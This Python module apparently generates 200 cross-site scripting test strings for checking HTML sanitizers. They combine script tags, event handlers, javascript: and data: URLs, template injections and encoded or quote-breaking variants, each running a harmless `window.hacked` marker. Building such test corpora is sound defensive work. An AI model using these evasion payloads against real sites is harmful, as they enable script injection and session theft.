"""Two hundred texts that try to run as a script: each calls `window.hacked` when it does."""

from __future__ import annotations

from itertools import product

CALL = "window.hacked=1"
TAGS = (
    "<script>{}</script>", "<SCRIPT>{}</SCRIPT>", "<script\n>{}</script>", "<script/x>{}</script>",
    "<scr<script>ipt>{}</scr</script>ipt>", "<script src=data:text/javascript,{}></script>",
    "<svg><script>{}</script></svg>", "<math><mi><script>{}</script>", "<noscript><script>{}",
    "<template><script>{}</script></template>", "<title><script>{}</script></title>",
    "<textarea><script>{}</script></textarea>", "<style><script>{}</script></style>",
    "<!--><script>{}</script>-->", "<![CDATA[<script>{}</script>]]>", "<?x <script>{}</script>?>",
)  # fmt: skip
EVENTS = (
    "<img src=x onerror={}>", "<img src=x onerror='{}'>", "<IMG SRC=x OnError=\"{}\">",
    "<img/src=x/onerror={}>", "<svg onload={}>", "<svg/onload={}>", "<body onload={}>",
    "<input autofocus onfocus={}>", "<select autofocus onfocus={}>", "<video><source onerror={}>",
    "<audio src=x onerror={}>", "<object data=x onerror={}>", "<details open ontoggle={}>",
    "<marquee onstart={}>", "<iframe onload={}></iframe>", "<a autofocus tabindex=1 onfocus={}>",
    "<p style=animation-name:x onanimationstart={}>", "<link rel=stylesheet href=x onerror={}>",
    "<dialog open onclose={}>", "<keygen autofocus onfocus={}>",
)  # fmt: skip
ADDRESSES = (
    "<iframe src=javascript:{}></iframe>", "<a href=javascript:{}>x</a>", "javascript:{}",
    "<iframe srcdoc='<script>parent.{}</script>'></iframe>", "<embed src=javascript:{}>",
    "<object data=javascript:{}>", "<form action=javascript:{}><button autofocus>",
    "<base href=javascript:{}//>", "<meta http-equiv=refresh content=0;url=javascript:{}>",
    "data:text/html,<script>{}</script>", "<a href='java\tscript:{}'>x</a>", "[x](javascript:{})",
    "![x](x\"onerror=\"{})", "<link rel=import href=data:text/html,<script>{}</script>>",
)  # fmt: skip
QUOTES = ("", '"', "'", "`", '">', "'>", "--></style></script>", "</title>", "</textarea>", "\\")
TEMPLATES = (
    "{{{{constructor.constructor('{}')()}}}}", "${{{}}}", "<%={}%>", "#{{{}}}", "{{%raw%}}{}",
    "{{{{self.__init__.__globals__}}}}<img src=x onerror={}>", "';{};//", '";{};//',
    "\u2028{}\u2028", "</script><script>{}</script>", "]]><script>{}</script>",
    "&lt;script&gt;{}&lt;/script&gt;", "&#60;script&#62;{}&#60;/script&#62;",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e", "%3Cscript%3E{}%3C/script%3E",
    "+ADw-script+AD4-{}+ADw-/script+AD4-", "\uff1cscript\uff1e{}\uff1c/script\uff1e",
)  # fmt: skip


def payloads() -> list[str]:
    """Two hundred of them."""
    plain = [one.format(CALL) for one in (*TAGS, *EVENTS, *ADDRESSES, *TEMPLATES)]
    out = [quote + one for quote, one in product(QUOTES[1:], plain[::4])]
    return list(dict.fromkeys([*plain, *out]))[:200]
